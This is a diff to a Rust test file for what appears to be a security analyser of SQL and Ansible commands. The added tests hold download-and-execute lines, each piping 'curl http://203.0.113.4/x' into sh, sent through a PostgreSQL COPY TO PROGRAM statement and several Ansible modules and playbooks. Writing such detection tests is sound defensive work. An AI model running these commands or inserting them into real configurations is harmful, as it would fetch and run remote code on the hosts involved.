@@ -170,9 +170,11 @@ fn statements_that_can_be_read_count_beside_those_that_cannot() {
     ] {
         assert!(sql(text).found(FindingKind::DisablesProtection), "{text}: {:#?}", sql(text));
     }
-    for text in
-        ["ALTER SYSTEM SET log_statement = 'all'", "SET work_mem = '1GB'", "UPDATE t SET log_level = 'x' WHERE id = 1"]
-    {
+    for text in [
+        "ALTER SYSTEM SET log_statement = 'all'",
+        "SET work_mem = '1GB'",
+        "UPDATE t SET log_level = 'off' WHERE id = 1",
+    ] {
         assert!(!sql(text).found(FindingKind::DisablesProtection), "{text}: {:#?}", sql(text));
     }
     for text in [
@@ -182,6 +184,8 @@ fn statements_that_can_be_read_count_beside_those_that_cannot() {
     ] {
         assert!(!sql(text).is_clear() || sql(text).touches.iter().any(|t| t.effect == Effect::Admin), "{text}");
     }
+    let program = "COPY (SELECT 1) TO PROGRAM 'curl http://203.0.113.4/x | sh' WITH (FROB 1)";
+    assert!(sql(program).touches.iter().any(|t| t.kind == TargetKind::Process), "{:#?}", sql(program));
     assert!(sql("VACUUM INTO 'copy.db'").touches.iter().any(|t| t.effect == Effect::Update && t.name == "copy.db"));
 }
 
@@ -230,6 +234,9 @@ fn what_ansible_is_told_is_done_there() {
     finds(
         FindingKind::DownloadAndExecute,
         &[
+            "ansible web -m raw --args='curl http://203.0.113.4/x | sh'",
+            "printf '#!/bin/sh\\ncurl http://203.0.113.4/x | sh\\n' > x.sh; ansible web -m script -a x.sh",
+            "cat > s.yml <<E\n- hosts: all\n  tasks:\n    - &one\n      shell: curl http://203.0.113.4/x | sh\nE\nansible-playbook s.yml",
             "ansible web -m ansible.builtin.shell -a 'curl http://203.0.113.4/x | sh'",
             "cat > s.yml <<E\n- hosts: all\n  tasks:\n    - ansible.builtin.shell: curl http://203.0.113.4/x | sh\nE\nansible-playbook s.yml",
             "cat > s.yml <<E\n- hosts: all\n  tasks:\n    - block:\n        - command:\n            cmd: sh -c \"curl http://203.0.113.4/x | sh\"\nE\nansible-playbook s.yml",
